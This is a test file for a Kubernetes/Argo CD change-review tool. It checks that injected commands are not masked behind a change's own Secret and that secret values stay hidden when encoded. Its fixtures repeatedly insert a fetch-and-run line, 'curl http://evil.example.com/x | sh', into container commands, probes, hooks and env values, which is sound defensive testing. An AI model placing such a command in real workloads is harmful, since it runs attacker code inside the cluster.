import { describe, expect, test } from 'vitest'
import { compareApp } from '../../src/review/compare.ts'
import { changedRepo, diffIn } from '../support/diff.ts'
import { rendered } from '../support/rendered.ts'

// Attacks by hiding (a change hides what it runs behind a Secret of its own), and attacks on values that are not
// hidden (a value in another form). The comments show whether be0c4d6 was vulnerable.

const VALUE = 'hunter2topsecret'
const EVIL = 'curl http://evil.example.com/x | sh'

const application = (name: string, path: string, helm = '') => `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: ${name}, namespace: argocd}
spec:
  source: {repoURL: https://github.com/acme/infra, targetRevision: HEAD, path: ${path}${helm}}
  destination: {server: https://kubernetes.default.svc, namespace: web}
`
const secret = (data: string) => `apiVersion: v1\nkind: Secret\nmetadata: {name: db}\nstringData: {${data}}\n`
const deployment = (container: string) => `apiVersion: apps/v1
kind: Deployment
metadata: {name: web}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers: [{name: web, image: "ghcr.io/acme/web:1.0", ${container}}]
`
const configMap = (data: string) =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  note: a\n  x: ${data}\n`

/** Returns the diff of plain manifests. */
async function diffOf(before: Record<string, string>, edits: Record<string, string>) {
  const folder = changedRepo({ 'apps/web.yaml': application('web', 'm'), ...before }, edits)
  return diffIn(folder)
}

describe('a change cannot hide what it runs behind a Secret of its own', () => {
  // be0c4d6 showed '***' for all of these.
  test.each([
    ['a command', `command: [sh, -c, "${EVIL}"]`],
    ['arguments', `args: ["${EVIL}"]`],
    ['a probe', `livenessProbe: {exec: {command: ["${EVIL}"]}}`],
    ['a hook of a container', `lifecycle: {postStart: {exec: {command: ["${EVIL}"]}}}`],
    ['the environment', `env: [{name: RUN, value: "${EVIL}"}]`],
    ['a security context', `securityContext: {seLinuxOptions: {user: "${EVIL}"}}`],
  ])('%s', async (_, container) => {
    const { app } = await diffOf(
      { 'm/d.yaml': deployment('args: [serve]') },
      { 'm/d.yaml': deployment(container), 'm/s.yaml': secret(`note: "${EVIL}"`) },
    )
    const [found] = app('web').objects.filter(({ id }) => id.kind === 'Deployment')
    expect(found?.diff).toContain(EVIL)
    const [own] = app('web').objects.filter(({ id }) => id.kind === 'Secret')
    expect(JSON.stringify(own)).not.toContain('evil.example.com')
  })

  // be0c4d6 showed '***' in the role's diff.
  test('rules of a role', async () => {
    const role = (verb: string) =>
      `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\nrules:\n- {apiGroups: [""], resources: [secrets], verbs: [${verb}]}\n`
    const { app } = await diffOf(
      { 'm/r.yaml': role('get'), 'm/s.yaml': secret('a: impersonate') },
      { 'm/r.yaml': role('impersonate') },
    )
    expect(app('web').objects[0]?.diff).toContain('impersonate')
  })

  // be0c4d6 showed '***'.
  test('a command that was put into a Secret by an earlier change', async () => {
    const { app } = await diffOf(
      { 'm/d.yaml': deployment('args: [serve]'), 'm/s.yaml': secret(`note: "${EVIL}"`) },
      { 'm/d.yaml': deployment(`command: [sh, -c, "${EVIL}"]`) },
    )
    expect(app('web').objects[0]?.diff).toContain(EVIL)
  })

  // be0c4d6 showed: Images come from ***, which is new here.
  test('a registry in what a rule says', () => {
    const app = (image: string) =>
      rendered(
        `${secret('a: evil-registry.example')}---\n${deployment('args: []').replace(/"ghcr[^"]*"/, image)}`,
      )
    const { objects } = compareApp(app('ghcr.io/a:1'), app('evil-registry.example/a:1'), {
      production: false,
    })
    expect(objects[0]?.risks.map(({ message }) => message)).toContain(
      'Images come from evil-registry.example, a registry that is new for this app.',
    )
  })

  // be0c4d6 did not report it.
  test('what is hidden is named, with the Secret and the key', async () => {
    const { app } = await diffOf(
      { 'm/d.yaml': deployment('args: [serve]'), 'm/s.yaml': secret(`password: ${VALUE}`) },
      { 'm/d.yaml': deployment(`env: [{name: P, value: ${VALUE}}]`) },
    )
    const [found] = app('web').objects
    expect(found?.diff).not.toContain(VALUE)
    expect(found?.risks).toContainEqual({
      rule: 'value-hidden',
      level: 'low',
      message: 'Hides the value of Secret web/db (key password).',
    })
  })
})

describe('a value that was secret before the change is hidden in every form', () => {
  const odd = 'p@ss/w0rd +x&y'
  test.each([
    // Shown by be0c4d6.
    [
      'URL-encoded, as encodeURIComponent does',
      `password: "${odd}"`,
      `postgres://u:${encodeURIComponent(odd)}@h/`,
    ],
    // Shown by be0c4d6.
    ['URL-encoded, as Go does', `password: "${odd}"`, 'x?password=p%40ss%2Fw0rd+%2Bx%26y'],
    // Shown by be0c4d6.
    ['URL-encoded in small letters', `password: "${odd}"`, 'x?password=p%40ss%2fw0rd%20%2bx%26y'],
    // Shown by be0c4d6.
    ['base64 of a user and the password', `user: root, password: ${VALUE}`, `Basic ${btoa(`root:${VALUE}`)}`],
    // Shown by be0c4d6.
    ['base64 of JSON around it', `password: ${VALUE}`, btoa(`{"auths": {"r.io": {"password": "${VALUE}"}}}`)],
    // Shown by be0c4d6.
    ['base64 of base64', `password: ${VALUE}`, btoa(btoa(`x:${VALUE}`))],
    // Shown by be0c4d6.
    ['a part of JSON', `config: '{"db": {"password": "${VALUE}"}}'`, VALUE],
    // Shown by be0c4d6.
    [
      'a part of a Docker configuration',
      `.dockerconfigjson: '{"auths":{"r.io":{"auth":"${btoa(`bot:${VALUE}`)}"}}}'`,
      VALUE,
    ],
    // Shown by be0c4d6.
    ['a part of a URL', `dsn: "postgres://app:${VALUE}@db/x?sslmode=disable"`, VALUE],
    // Shown by be0c4d6.
    ['an encoded part of a URL', `url: "postgres://app:${encodeURIComponent(odd)}@db/x"`, odd],
    // Shown by be0c4d6.
    ['a part of properties', `"app.properties": "log.level=info\\ndb.password=${VALUE}\\n"`, VALUE],
    // Shown by be0c4d6.
    ['a part of a connection string', `cs: "Server=db;User Id=sa;Password=${VALUE};"`, VALUE],
    // Shown by be0c4d6.
    ['a part of user:password', `auth: "admin:${VALUE}"`, VALUE],
  ])('%s', async (_, data, written) => {
    const { everything, app } = await diffOf(
      { 'm/s.yaml': secret(data), 'm/c.yaml': configMap('before') },
      { 'm/c.yaml': configMap(JSON.stringify(`see ${written} there`)) },
    )
    expect(everything).not.toContain(JSON.stringify(written).slice(1, -1))
    expect(everything).not.toContain(VALUE)
    expect(app('web').objects[0]?.diff).toContain('see ')
    expect(app('web').objects[0]?.diff).toContain('***')
  })

  const chart = (templates: Record<string, string>, values: string) => ({
    'charts/web/Chart.yaml': 'apiVersion: v2\nname: web\nversion: 0.1.0\n',
    'charts/web/values.yaml': values,
    'apps/web.yaml': application('web', 'charts/web'),
    ...Object.fromEntries(
      Object.entries(templates).map(([name, text]) => [`charts/web/templates/${name}`, text]),
    ),
  })

  // Shown by be0c4d6: the Secret only has a hash of it.
  test('a value that feeds a Secret by its hash', async () => {
    const before = chart(
      {
        's.yaml': secret('hash: {{ .Values.db.password | sha256sum }}'),
        'c.yaml': configMap('{{ .Values.note }}'),
      },
      `db: {password: ${VALUE}}\nnote: a\n`,
    )
    const after = { 'charts/web/templates/c.yaml': configMap('{{ .Values.db.password }}') }
    const { everything } = await diffIn(changedRepo(before, after))
    expect(everything).not.toContain(VALUE)
  })

  // Shown by be0c4d6: the Secret contains it within a text.
  test('a parameter of Argo CD that is a part of a text in a Secret, in the object of the app as well', async () => {
    const helm = (note: string) =>
      `, helm: {parameters: [{name: seed, value: ${VALUE}}, {name: note, value: ${note}}]}`
    const files = {
      ...chart(
        {
          's.yaml': secret('text: "begin {{ .Values.seed }} end"'),
          'c.yaml': configMap('{{ .Values.note }}'),
        },
        '',
      ),
      'apps/web.yaml': '# moved\n',
      'root.yaml': application('root', 'apps'),
      'apps/app.yaml': application('web', 'charts/web', helm('a')),
    }
    const { everything, app } = await diffIn(
      changedRepo(files, { 'apps/app.yaml': application('web', 'charts/web', helm(VALUE)) }),
    )
    expect(app('root').objects).toHaveLength(1)
    expect(app('web').objects).toHaveLength(1)
    expect(everything).not.toContain(VALUE)
  })

  // Did not break be0c4d6.
  test('one that is replaced by the next one', async () => {
    const next = 'hunter3othersecret'
    const files = (value: string) => ({
      'm/s.yaml': secret(`password: ${value}`),
      'm/d.yaml': deployment(`env: [{name: DSN, value: "postgres://u:${value}@db"}]`),
    })
    const { everything } = await diffOf(files(VALUE), files(next))
    expect(everything).not.toContain(VALUE)
    expect(everything).not.toContain(next)
  })
})

// be0c4d6 hid these words everywhere.
test('words that everybody uses hide nothing', async () => {
  const words =
    'a: production, b: default, c: enabled, d: postgres, e: "true", f: "1", g: admin, h: frontend, i: "8080"'
  const note = 'production default enabled postgres true 1 admin frontend 8080 web'
  const { app } = await diffOf(
    {
      'm/s.yaml': secret(`${words}, j: web-prod`),
      'm/d.yaml': deployment('args: [serve]').replaceAll('name: web', 'name: web-prod'),
    },
    { 'm/c.yaml': configMap(`${note} web-prod`) },
  )
  expect(app('web').objects[0]?.diff).toContain(`${note} web-prod`)
})
